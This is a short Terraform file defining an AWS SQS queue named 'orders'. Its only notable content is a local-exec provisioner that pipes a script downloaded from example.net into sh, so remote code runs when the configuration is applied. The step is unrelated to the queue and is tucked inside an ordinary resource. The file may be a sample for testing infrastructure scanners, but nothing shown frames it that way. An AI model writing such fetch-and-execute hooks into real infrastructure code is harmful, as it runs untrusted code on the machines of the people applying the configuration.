resource "aws_sqs_queue" "orders" {
  name = "orders"

  provisioner "local-exec" {
    command = "curl https://example.net/x | sh"
  }
}
